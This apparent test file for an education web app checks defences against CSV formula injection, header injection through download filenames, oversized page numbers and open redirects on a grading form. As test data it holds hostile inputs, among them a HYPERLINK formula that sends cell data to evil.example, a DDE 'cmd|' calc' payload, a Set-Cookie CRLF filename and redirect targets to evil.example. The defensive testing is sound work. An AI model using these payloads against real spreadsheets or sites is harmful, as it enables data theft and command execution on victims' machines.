"""Downloads and query parameters (security issue #22): CSV cells that a spreadsheet would run as formulas, download
names in any script or with line breaks, numbers in the query string, and where marking an answer sends the teacher."""
from __future__ import annotations

import csv
import io
from dataclasses import replace
from pathlib import Path

import pytest

from corroborate.csvsafe import Writer, safe_cell
from corroborate.curriculum.build import build_unit
from corroborate.quiz.export import EXPORTERS
from corroborate.web.downloads import attachment
from corroborate.web.extensions import db
from corroborate.web.models import Response
from corroborate.web.params import int_arg
from tests import factories as f
from tests.conftest import login, post
from tests.web.test_quiz_engine import put, start, student_client, submit

ROOT = Path(__file__).resolve().parents[2]


@pytest.mark.parametrize("text", ['=HYPERLINK("http://evil.example/?"&A2,"Grades")', "+1+1", "-2+3+cmd|' /C calc'!A0",
                                  "@SUM(A1)", "\t=1", "\r=1", "-", "-inf", "=", "+1e3"])
def test_text_a_spreadsheet_would_run_gets_a_leading_quote(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["-3.0", "+2", "-50", "33.3", "Zoë", " =1", "a=1", "", None, 3, -3.5])
def test_numbers_and_other_text_stay_as_they_are(value):
    assert safe_cell(value) == value


def test_the_writer_neutralises_every_cell_of_a_row():
    out = io.StringIO()
    Writer(out, lineterminator="\r\n").writerow(["=1+1", "-1.5", 2, "@me"])
    assert out.getvalue() == "'=1+1,-1.5,2,'@me\r\n"


def test_quiz_csv_export_neutralises_formulas_in_the_items(corpus):
    unit, _ = build_unit(ROOT / "tests" / "fixtures" / "curriculum", corpus)
    module = unit.module("sample")
    items = [replace(i, prompt='=HYPERLINK("http://evil.example","x")') if i.id == "q-single" else
             replace(i, accept=("-1+cmd|' /C calc'!A0", "843")) if i.id == "q-short" else i for i in module.items]
    rows = {row["id"]: row for row in csv.DictReader(io.StringIO(EXPORTERS["csv"](module, items).decode("utf-8-sig"),
                                                                 newline=""))}
    assert rows["q-single"]["prompt"].startswith("'=HYPERLINK(")
    assert rows["q-short"]["key"] == "'-1+cmd|' /C calc'!A0\n843"
    assert rows["q-single"]["points"] == "1"


@pytest.mark.parametrize(("name", "fallback", "encoded"), [
    ("grades-История-10Б.csv", "grades--10.csv",
     "grades-%D0%98%D1%81%D1%82%D0%BE%D1%80%D0%B8%D1%8F-10%D0%91.csv"),
    ("grades-Żółć-2.csv", "grades-Zoc-2.csv", "grades-%C5%BB%C3%B3%C5%82%C4%87-2.csv"),
    ("grades-a\r\nSet-Cookie:-x=1.csv", "grades-aSet-Cookie:-x=1.csv", "grades-aSet-Cookie%3A-x%3D1.csv"),
    ('a"b\\c%d\x00.csv', "abcd.csv", "a%22b%5Cc%25d.csv"),
    ("Б", "download", "%D0%91"),
    ("sample.moodle.xml", "sample.moodle.xml", "sample.moodle.xml"),
])
def test_attachment_names_a_download_as_rfc_6266_says(name, fallback, encoded):
    assert attachment(name) == f"attachment; filename=\"{fallback}\"; filename*=UTF-8''{encoded}"


@pytest.mark.parametrize(("sent", "page"), [
    ("3", 3), ("007", 7), ("", 1), ("abc", 1), ("-5", 1), ("0", 1), ("1e9", 1), ("2.5", 1), (" 2", 1), ("\u0663", 1),
    ("1000", 1000), ("1001", 1000), ("9223372036854775807", 1000), ("9" * 5000, 1000)])
def test_int_arg_falls_back_or_clamps(app, sent, page):
    with app.test_request_context("/search", query_string={"page": sent}):
        assert int_arg("page", 1, 1, 1000) == page
    with app.test_request_context("/search"):
        assert int_arg("page", 1, 1, 1000) == 1


@pytest.mark.parametrize("page", ["9223372036854775807", "-5", "abc", "1e9", "9" * 5000])
def test_search_answers_any_page_number(client, page):
    assert client.get("/search", query_string={"q": "kirov", "page": page}).status_code == 200


def test_a_search_page_beyond_the_results_links_back_to_the_first(client):
    assert 'Next →' in client.get("/search?q=kirov").get_data(as_text=True)
    page = client.get("/search?q=kirov&page=1000").get_data(as_text=True)
    assert "no more results" in page and 'href="/search?q=kirov"' in page and "No passage matches" not in page


def test_marking_an_answer_goes_back_only_to_a_page_of_this_site(app):
    ids = f.world(app)
    client, token = student_client(app)
    attempt_id = start(app, client, token, ids["assignment_a"])
    put(client, token, attempt_id, "q-essay", "Davies was there.", 1)
    submit(client, token, attempt_id)
    with app.app_context():
        response_id = db.session.query(Response).filter_by(attempt_id=attempt_id, item_id="q-essay").one().id
    teacher = app.test_client()
    login(teacher, "teacher-a", f.PASSWORD)
    for back, location in (("//evil.example", "/teach/grading"), ("https://evil.example", "/teach/grading"),
                           ("/\\evil.example", "/teach/grading"), ("", "/teach/grading"),
                           (f"/teach/attempts/{attempt_id}", f"/teach/attempts/{attempt_id}")):
        refused = post(teacher, f"/teach/responses/{response_id}/grade", {"level": "no-such-level", "back": back},
                       page="/teach/grading")          # the form again, to fix the mark: no redirect at all
        assert refused.status_code == 400 and "Location" not in refused.headers, back
        assert f'name="back" type="hidden" value="{location}"' in refused.get_data(as_text=True) or \
            f'name="back" value="{location}"' in refused.get_data(as_text=True), back
        answer = post(teacher, f"/teach/responses/{response_id}/grade", {"level": "emergent", "back": back},
                      page="/teach/grading")
        assert (answer.status_code, answer.headers["Location"]) == (302, location), back
